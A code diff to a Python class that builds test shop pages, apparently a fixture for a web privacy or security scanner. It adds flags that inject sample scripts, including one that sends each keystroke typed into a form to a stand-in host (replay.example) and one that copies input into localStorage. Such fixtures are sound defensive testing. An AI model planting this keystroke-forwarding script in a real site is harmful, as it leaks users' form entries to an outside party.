@@ -188,6 +188,12 @@ class Shop:
             page += '<script src="http://cdn.example.com/x.js"></script>'
         if self.has("clear-form"):
             page += '<form method="post" action="http://example.com/"><input name="x"></form>'
+        if self.has("stores"):
+            page += "<script>document.forms[0].addEventListener('input', e => localStorage.setItem('draft', btoa(e.target.value)))</script>"
+        if self.has("tells"):
+            page += "<script>document.forms[0].addEventListener('input', e => fetch('https://replay.example/?v=' + e.target.value).catch(() => 0))</script>"
+        if self.has("loads-by-script"):
+            page += "<script>new Image().src = 'http://img.example/x.png'</script>"
         page += '<a href="/done">done</a><a href="/api">api</a><a href="/login">log in</a>'
         cookies = []
         if self.has("naked-cookie"):
